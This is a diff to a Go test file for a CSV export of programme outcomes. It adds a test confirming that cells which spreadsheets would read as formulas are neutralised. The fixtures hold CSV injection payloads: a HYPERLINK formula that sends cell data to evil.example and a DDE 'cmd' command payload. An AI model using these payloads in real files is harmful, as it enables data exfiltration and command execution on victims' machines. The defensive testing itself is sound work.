@@ -11,6 +11,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/google/uuid"
 
@@ -30,11 +31,18 @@ type cohort struct {
 
 func newCohort(t *testing.T, s *Service, name string) *cohort {
 	t.Helper()
+	// Addresses from the name's letters and digits, whatever else it holds.
+	local := strings.ToLower(strings.Map(func(r rune) rune {
+		if r < 128 && (unicode.IsLetter(r) || unicode.IsDigit(r)) {
+			return r
+		}
+		return -1
+	}, name))
 	c := &cohort{s: s,
 		coordinator: store.Person{ID: uuid.New(), Role: store.RoleCoordinator, GivenName: "Megan", FamilyName: "Howells",
-			EmailAddress: "megan." + strings.ToLower(strings.ReplaceAll(name, " ", "")) + "@example.org"},
+			EmailAddress: "megan." + local + "@example.org"},
 		coach: store.Person{ID: uuid.New(), Role: store.RoleCoach, GivenName: "Elin", FamilyName: "Rowlands",
-			EmailAddress: "elin." + strings.ToLower(strings.ReplaceAll(name, " ", "")) + "@example.org"},
+			EmailAddress: "elin." + local + "@example.org"},
 	}
 	ctx := context.Background()
 	if err := s.Store.CreatePeople(ctx, []store.Person{c.coordinator, c.coach}); err != nil {
@@ -198,6 +206,60 @@ func TestOutcomesCSVNamesNobody(t *testing.T) {
 		for _, personal := range []string{p.GivenName, p.FamilyName, p.EmailAddress, "@"} {
 			if strings.Contains(b.String(), personal) {
 				t.Errorf("the funders' CSV contains %q:\n%s", personal, b.String())
+			}
+		}
+	}
+}
+
+// formulaStart is what makes a spreadsheet read a CSV cell as a formula
+// (OWASP's CSV injection list): =, +, -, @, a tab or a carriage return
+// first.
+const formulaStart = "=+-@\t\r"
+
+// A funder opening the outcomes file in a spreadsheet runs nothing: a
+// cell of recorded text that a spreadsheet would take for a formula is
+// written with a leading apostrophe, which spreadsheets read as "text"
+// and do not show, and every other cell as it was recorded.
+func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	s := storeOnly(t)
+	name := `=HYPERLINK("http://evil.example/?"&A1,"Cohort 1")`
+	c := newCohort(t, s, name)
+	recorded := map[string][2]string{} // journey → local authority, theme
+	for i, cell := range [][2]string{
+		{"+cmd|' /C calc'!A0", "@SUM(1+1)"},
+		{"-2+3", "\tcommunities"},
+		{"\r=1+1", "decarbonisation"},
+		{"Cardiff", "communities"},
+	} {
+		j := uuid.New()
+		c.record(t, j, c.participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
+		recorded[j.String()] = cell
+	}
+	var b bytes.Buffer
+	if err := s.WriteOutcomesCSV(ctx, c.intake.ID, &b); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatalf("not CSV: %v\n%s", err, b.String())
+	}
+	if len(rows) != 1+len(recorded) {
+		t.Fatalf("want a header and %d rows:\n%s", len(recorded), b.String())
+	}
+	for _, row := range rows[1:] {
+		want := recorded[row[0]]
+		for i, w := range []string{name, want[0], want[1]} {
+			cell := row[2+i]
+			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
+				t.Errorf("column %s of journey %s is %q: a spreadsheet runs it as a formula", rows[0][2+i], row[0], cell)
+			}
+			shown := cell
+			if strings.ContainsRune(formulaStart, rune(w[0])) {
+				shown = strings.TrimPrefix(cell, "'")
+			}
+			if shown != w {
+				t.Errorf("column %s of journey %s reads %q as text, want %q", rows[0][2+i], row[0], shown, w)
 			}
 		}
 	}
